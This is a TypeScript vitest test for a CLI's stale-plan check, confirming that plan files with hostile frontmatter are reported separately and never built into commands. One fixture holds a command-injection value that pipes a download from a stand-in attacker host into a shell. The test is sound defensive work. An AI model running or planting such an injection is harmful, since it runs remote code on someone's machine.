// check --stale: one plan's problem is that plan's failure; hints never carry frontmatter text.
import { describe, expect, it } from 'vitest';
import { run } from '../cli/helpers.js';
import { SESSION, makeProject } from './project.js';

const planWith = (frontmatter: string) => `---\n${frontmatter}\n---\n# Plan\n`;

describe('check --stale on hostile plans', () => {
  it('reports each plan on its own and never builds a command from untrusted frontmatter', () => {
    const project = makeProject({
      [SESSION]: '# Board\n',
      '.claude/doc/websocket-realtime-a.md': planWith('task: "a"\ninputs_digest: "sha256:0"\nsessions: [".claude/tasks/gone.md"]'),
      '.claude/doc/websocket-realtime-b.md': planWith('task: "x`; curl https://evil.example | sh; `"\ninputs_digest: "sha256:0"'),
    });
    const r = run(['check', '--cwd', project, '--stale', '--json']);
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout) as { files: { file: string; errors: { message: string }[] }[] };
    const messages = (file: string) => report.files.find((f) => f.file === file)?.errors.map((e) => e.message) ?? [];
    expect(messages('.claude/doc/websocket-realtime-a.md')).toContain(
      "cannot recompute the plan's inputs: no usable session context: no file matches .claude/tasks/gone.md",
    );
    expect(messages('.claude/doc/websocket-realtime-b.md')).toContain(
      'inputs changed since the plan was written: regenerate with the task it was made for (and the options it was made with)',
    );
    expect(r.stdout + r.stderr).not.toContain('curl');
  });
});
